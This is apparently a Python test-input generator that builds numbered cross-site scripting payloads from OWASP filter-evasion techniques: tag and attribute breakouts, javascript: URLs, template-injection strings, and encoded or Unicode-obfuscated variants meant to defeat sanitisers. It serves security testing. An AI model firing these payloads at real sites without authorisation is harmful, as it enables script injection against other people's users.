"""Strings that would run in a browser if a page wrote them as they are: each calls `alert` with a number of its own.

The ways are those of OWASP's "XSS Filter Evasion Cheat Sheet": elements that begin by themselves, behind whatever may
stand open where they are put; the ends of a string in a script, of a template literal, of an attribute; and what only
becomes markup when somebody decodes, normalises or cleans it once too often.
"""

import re

FIRST = 10_000
SPACE = 80  # the shortest fields of words take so many characters
CALLED = re.compile(r"alert\((1\d{4})\)")

BY_THEMSELVES = (
    "<script>alert(N)</script>",
    "<img src=x onerror=alert(N)>",
    "<svg onload=alert(N)>",
    "<svg><script>alert(N)</script></svg>",
    "<details open ontoggle=alert(N)>",
    "<video src=x onerror=alert(N)>",
    "<audio src=x onerror=alert(N)>",
    "<input autofocus onfocus=alert(N)>",
    "<input type=image src=x onerror=alert(N)>",
    "<object data=x: onerror=alert(N)>",
    "<style onload=alert(N)></style>",
    "<link rel=stylesheet href=x: onerror=alert(N)>",
    "<iframe onload=alert(N)>",
    "<iframe srcdoc='<script>parent.alert(N)</script>'>",
    "<iframe src=javascript:parent.alert(N)>",
    "<ImG/src/oNeRrOr=alert(N)>",
    "<<img src=x onerror=alert(N)//<",
)
OPEN_BEFORE = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</select>",
    "</template>",
    "</noscript>",
    "\u202e\u2066",
    "${'",
    "{{ '",
)
IN_A_SCRIPT = tuple(
    f"{end}{between}{begin}"
    for end, begin in (("'", "'"), ('"', '"'), ("`", "`"), ("\\'", ""), ('\\"', ""))
    for between in ("-alert(N)-", ";alert(N);//", ");alert(N);(")
)
OTHERS = (
    "${alert(N)}",
    "</script><script>alert(N)</script>",
    "*/alert(N)/*",
    "\u2028alert(N)//",
    "\nalert(N)\n",
    '" autofocus onfocus=alert(N) x="',
    "' autofocus onfocus=alert(N) x='",
    "x autofocus onfocus=alert(N) ",
    "javascript:alert(N)",
    " javascript:alert(N)",
    "java\tscript:alert(N)",
    "data:text/html,<script>alert(N)</script>",
    "{{constructor.constructor('alert(N)')()}}",
    "{{ ''.__class__ }}{% raw %}alert(N)",
    # once too often
    "&lt;img src=x onerror=alert(N)&gt;",
    "&#60;img src=x onerror=alert(N)&#62;",
    "&amp;lt;img src=x onerror=alert(N)&amp;gt;",
    "%3Cimg src=x onerror=alert(N)%3E",
    "\\x3cimg src=x onerror=alert(N)\\x3e",
    "\\u003cimg src=x onerror=alert(N)\\u003e",
    "\uff1cimg src=x onerror=alert(N)\uff1e",
    "\ufe64img src=x onerror=alert(N)\ufe65",
    "+ADw-img src=x onerror=alert(N)+AD4-",
    "<im\u200bg src=x onerror=alert(N)>",
    "<im\u00adg src=x onerror=alert(N)>",
    "<im\u2066g src=x onerror=alert(N)>",
    "<img src=x on\u200derror=alert(N)>",
    "<im<b>g src=x onerror=alert(N)>",
    "<scr<script>ipt>alert(N)</scr</script>ipt>",
    "<\u017fvg onload=alert(N)>",
)


def strings() -> list[str]:
    """Each with its number in the place of N."""
    behind = [before + one for before in OPEN_BEFORE for one in BY_THEMSELVES]
    return [one.replace("(N)", f"({FIRST + at})") for at, one in enumerate((*behind, *IN_A_SCRIPT, *OTHERS))]


def groups(share: int) -> list[str]:
    """As many of the strings behind each other as fit into the shortest field; of these one of so many."""
    found = [""]
    for one in strings():
        if len(found[-1]) + len(one) > SPACE:
            found.append("")
        found[-1] += one
    return found[::share]
